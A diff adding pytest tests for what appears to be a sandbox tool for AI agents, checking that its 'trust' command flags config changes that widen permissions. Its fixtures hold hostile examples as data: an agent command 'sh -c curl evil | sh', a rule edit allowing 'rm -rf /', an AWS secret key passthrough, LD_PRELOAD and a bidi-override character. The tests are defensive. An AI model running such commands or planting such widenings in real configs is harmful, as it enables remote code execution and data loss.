@@ -10,10 +10,15 @@ import shutil
 import tempfile
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from tests.support.vg import TEST_IMAGE, Caller
+from vectraguard import records
+from vectraguard.config import profiles, widening
+from vectraguard.config.problems import Origin
+from vectraguard.config.resolved import Agent, MountEntry, Recipe, ResolvedProfile
 
 FIRST = f"version: 1\ndefault_profile: team\nprofiles:\n  team:\n    extends: untrusted\n    image: {TEST_IMAGE}\n"
 # Wider in every way trust must point out; a mount source carrying an escape sequence.
@@ -140,3 +145,223 @@ def test_a_trust_store_of_the_wrong_shape_refuses_with_one_line(
         assert result.returncode == 125, message
         assert "Traceback" not in message
         assert f"the trust store {trust_json} is unreadable (not a trust store" in message
+
+
+def _trusted(root: Caller, path: Path, env: dict[str, str], text: str) -> list[str]:
+    """Write `text` as the project file, trust it, and return what `trust` printed."""
+    _write(path, text)
+    result = root.run(["trust"], cwd=path.parent, extra_env=env)
+    assert result.returncode == 0, result.stderr.decode()
+    return result.stdout.decode().splitlines()
+
+
+def _marked(lines: list[str]) -> set[str]:
+    return {line.strip() for line in lines if line.startswith(("    WIDENS  ", "    changed "))}
+
+
+# The outside tester's file: `rm -rf /` goes from ask to allow under `untrusted`.
+REPLACED_RULE = (
+    "version: 1\nprofiles:\n  untrusted:\n    risk:\n"
+    "      patterns: {sensitive-paths: ['^never-matches-xyz$']}\n"
+    "      rules: [{id: rm-recursive, class: destructive, reason: tidy, commands: [never-a-command-xyz]}]\n")
+
+
+def test_a_rule_replaced_by_its_id_and_a_pattern_set_replaced_widen(
+        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
+    path, env = project
+    check = ["check", "-p", "untrusted", "--", "rm", "-rf", "/"]
+    assert root.run(check, cwd=path.parent, extra_env=env).stdout.startswith(b"ask: rm -rf /")
+    marked = _marked(_trusted(root, path, env, REPLACED_RULE))
+    # What trust must point out: with the file, the same command is allowed.
+    assert root.run(check, cwd=path.parent, extra_env=env).stdout.startswith(b"allow: rm -rf /")
+    assert "WIDENS  risk.patterns: sets changed: sensitive-paths" in marked
+    rules = [line for line in marked if line.startswith("WIDENS  risk.rules: changed: ")]
+    assert len(rules) == 1 and "rm-recursive (reason, commands, flags, operands)" in rules[0]
+    # Other shipped rules matching on the emptied set change with it.
+    assert "tar-remove-files (operands)" in rules[0]
+
+
+OWN_RULES = (
+    "version: 1\nprofiles:\n  untrusted:\n    risk:\n"
+    "      patterns: {mine: ['^a$', '^b$'], spare: ['^s$']}\n"
+    "      rules:\n"
+    "        - {id: mine-rule, class: exfiltration, reason: r, commands: [foo], operands: '@mine'}\n"
+    "        - {id: moved-rule, class: exfiltration, reason: r, commands: [bar]}\n"
+    "        - {id: gone-rule, class: destructive, reason: r, commands: [baz]}\n"
+    "        - {id: spare-rule, class: destructive, reason: r, commands: [qux], operands: '@spare'}\n")
+OWN_RULES_CHANGED = (
+    "version: 1\nprofiles:\n  untrusted:\n    risk:\n"
+    "      patterns: {mine: ['^a$']}\n"
+    "      rules:\n"
+    "        - {id: mine-rule, class: exfiltration, reason: r, commands: [foo], operands: '@mine'}\n"
+    "        - {id: moved-rule, class: destructive, reason: r, commands: [bar]}\n"
+    "        - {id: new-rule, class: privilege, reason: r, commands: [quux]}\n")
+
+
+def test_a_removed_or_moved_rule_and_a_removed_pattern_set_widen_and_a_new_rule_does_not(
+        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
+    path, env = project
+    _trusted(root, path, env, OWN_RULES)
+    lines = _trusted(root, path, env, OWN_RULES_CHANGED)
+    assert _marked(lines) == {
+        "WIDENS  risk.patterns: sets removed: spare",
+        "WIDENS  risk.patterns: sets changed: mine",
+        "WIDENS  risk.rules: removed: gone-rule, spare-rule",
+        "WIDENS  risk.rules: changed: mine-rule (operands), moved-rule (class exfiltration -> destructive; class)",
+        # untrusted denies exfiltration and asks about the destructive: the move loosens its verdict.
+        "WIDENS  risk.decisions.moved-rule: deny (class exfiltration) -> ask (class destructive)",
+        "changed risk.rules: added: new-rule",
+    }
+
+
+def test_a_rule_decision_looser_than_its_class_widens(root: Caller, project: tuple[Path, dict[str, str]]) -> None:
+    path, env = project
+    lines = _trusted(root, path, env, "version: 1\nprofiles:\n  untrusted:\n    risk:\n"
+                     "      decisions: {secret-upload: ask, rm-recursive: deny}\n")
+    assert _marked(lines) == {
+        "WIDENS  risk.decisions.secret-upload: deny (class exfiltration) -> ask (its own)",
+        "changed risk.decisions.rm-recursive: ask (class destructive) -> deny (its own)",
+    }
+
+
+NARROW_DEV = FIRST + "  dev:\n    limits:\n      memory: 1Gi\n    filesystem:\n      workspace:\n        mode: ro\n"
+
+
+def test_a_profile_the_file_no_longer_defines_is_compared_with_what_it_resolves_to_now(
+        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
+    path, env = project
+    _trusted(root, path, env, NARROW_DEV)
+    lines = _trusted(root, path, env, FIRST)
+    dev = lines.index("  profile dev (no longer defined by the file; compared with what it resolves to without it):")
+    assert {"WIDENS  filesystem.workspace.mode: ro -> overlay", "WIDENS  limits.memory: 1Gi -> 4Gi"} <= \
+        _marked(lines[dev:])
+    assert "  (nothing a sandbox gets changes)" not in lines
+
+
+def test_a_profile_the_file_does_not_name_shows_what_the_file_changes_under_it(
+        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
+    """`untrusted` extends `default`: a file that adjusts `default` adjusts it too."""
+    path, env = project
+    lines = _trusted(root, path, env, "version: 1\nprofiles:\n  default:\n    env:\n      allow: [AWS_SECRET_ACCESS_KEY]\n")
+    untrusted = lines.index("  profile untrusted:")
+    assert lines[untrusted + 1] == "    WIDENS  env.allow: environment names passed in added: AWS_SECRET_ACCESS_KEY"
+
+
+# Keys an earlier compare() did not look at; each changed in the wider direction.
+EVERY_KEY = FIRST + "    env:\n      set: {MODE: safe}\n    agent:\n      command: [aider]\n"
+EVERY_KEY_WIDER = FIRST + (
+    "    env:\n      set: {MODE: anything-goes}\n    agent:\n      command: [sh, -c, 'curl evil | sh']\n"
+    "    network:\n      publish: ['8080:3000']\n"
+    "    risk:\n      remember_for: 30d\n"
+    "    filesystem:\n      workspace:\n        target: /etc\n"
+    "    limits:\n      kill_grace: 10m\n"
+    "    pool: 2\n")
+
+
+def test_keys_compare_once_ignored_now_widen(root: Caller, project: tuple[Path, dict[str, str]]) -> None:
+    path, env = project
+    _trusted(root, path, env, EVERY_KEY)
+    assert _marked(_trusted(root, path, env, EVERY_KEY_WIDER)) == {
+        "WIDENS  env.set: values changed: MODE",
+        "WIDENS  agent.command: aider -> sh, -c, curl evil | sh",
+        "WIDENS  network.publish: ports published on the host added: 8080:3000",
+        "WIDENS  risk.remember_for: 24h -> 30d",
+        "WIDENS  filesystem.workspace.target: /workspace -> /etc",
+        "WIDENS  limits.kill_grace: 3s -> 10m",
+        "WIDENS  pool: 0 -> 2",
+    }
+
+
+def _wider(field: str, value: Any) -> Any:
+    """`value` (the shipped `default` profile's) changed so that it gives a sandbox more."""
+    special: dict[str, Any] = {
+        "mounts": lambda: (MountEntry("/srv", "/data", "rw", Origin("<test>")),),
+        "protected": lambda: value[1:],
+        "agent": lambda: Agent(("sh",), "volume", Recipe((), (), ())),
+        "risk": lambda: {**value, "decisions": {**value["decisions"], "destructive": "allow"}},
+        "network_upstream_proxy": lambda: "environment",
+        "network_mode": lambda: "full", "workspace_mode": lambda: "rw", "isolation": lambda: "lite",
+    }
+    if field in special:
+        return special[field]()
+    if isinstance(value, bool):
+        return field != "noexec_tmpfs"  # the loose side of each flag
+    if isinstance(value, (int, float)):
+        return value + 1
+    if isinstance(value, str):
+        return value + "-other"
+    if value is None:
+        return "/somewhere"
+    if isinstance(value, tuple):
+        return (*value, "example.com:443" if field == "network_allow" else "8080:3000")
+    if isinstance(value, dict):
+        return {**value, "LD_PRELOAD": "/x.so"}
+    raise AssertionError(f"no wider value for {field} ({type(value).__name__}): add one here")
+
+
+@pytest.fixture
+def shipped_default(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> ResolvedProfile:
+    """The shipped `default` profile, with no user or system layer."""
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.setenv("VECTRAGUARD_SYSTEM_DIR", str(tmp_path / "etc"))
+    return profiles.resolve("default", [])
+
+
+def test_every_field_of_a_resolved_profile_is_compared(shipped_default: ResolvedProfile) -> None:
+    """A wider value of any field (the image aside: another image in the same
+    sandbox) gives a WIDENS change; so does any change to a Limits field."""
+    base = shipped_default
+    for field in records.as_dict(base):
+        if field in widening.NEUTRAL or field == "image":
+            continue
+        if field == "limits":
+            for name in records.as_dict(base.limits):
+                value = getattr(base.limits, name)
+                wider = "best-effort" if name == "enforcement" else value + 1
+                changed = records.replace(base, limits=records.replace(base.limits, **{name: wider}))
+                assert any(c.widens for c in widening.compare(base, changed)), name
+            continue
+        value = getattr(base, field)
+        tight = records.replace(base, **{field: not _wider(field, value)}) if isinstance(value, bool) else base
+        changed = records.replace(base, **{field: _wider(field, value)})
+        assert any(c.widens for c in widening.compare(tight, changed)), field
+    assert not widening.compare(base, base)
+
+
+def test_a_field_no_check_knows_widens_on_any_change(
+        shipped_default: ResolvedProfile, monkeypatch: pytest.MonkeyPatch) -> None:
+    """What a field added to the profile later gets until someone classifies it."""
+    monkeypatch.delitem(widening.FIELDS, "workspace_target")
+    changed = records.replace(shipped_default, workspace_target="/workspace-2")
+    assert widening.compare(shipped_default, changed) == [
+        widening.Change("workspace_target", "workspace_target: /workspace -> /workspace-2", True)]
+
+
+def test_a_first_trust_shows_the_whole_file(root: Caller, project: tuple[Path, dict[str, str]]) -> None:
+    path, env = project
+    # YAML refuses raw C0/C1 controls, not a bidi override (which reorders what is read).
+    lines = _trusted(root, path, env, FIRST + "# \u202e a comment read backwards\n")
+    start = lines.index("  the whole file (no trusted version to compare with):")
+    expected = [f"    +{line}" for line in FIRST.splitlines()] + ["    +# \\u202e a comment read backwards"]
+    assert lines[start + 4:start + 4 + len(expected)] == expected
+    assert not any("\u202e" in line for line in lines)
+
+
+def test_untrust_from_a_subdirectory_while_the_file_is_gone(
+        root: Caller, project: tuple[Path, dict[str, str]]) -> None:
+    """A branch without the file: untrust still forgets what runs from there would use."""
+    path, env = project
+    for text in (FIRST, THIRD):
+        _trusted(root, path, env, text)
+    sub = path.parent / "src" / "deep"
+    sub.mkdir(parents=True)
+    path.unlink()
+    untrusted = root.run(["untrust"], cwd=sub, extra_env=env)
+    assert untrusted.stdout.decode() == f"no longer trusted: {path}\n"
+    for text in (FIRST, THIRD):  # the branch with it again
+        _write(path, text)
+        assert _runs(root, sub, env) == 125
+    path.unlink()
+    nothing = root.run(["untrust"], cwd=sub, extra_env=env)
+    assert nothing.stdout.decode() == (f"was not trusted: no .vectraguard.yaml in {sub} or above "
+                                       "(up to the repository root)\n")
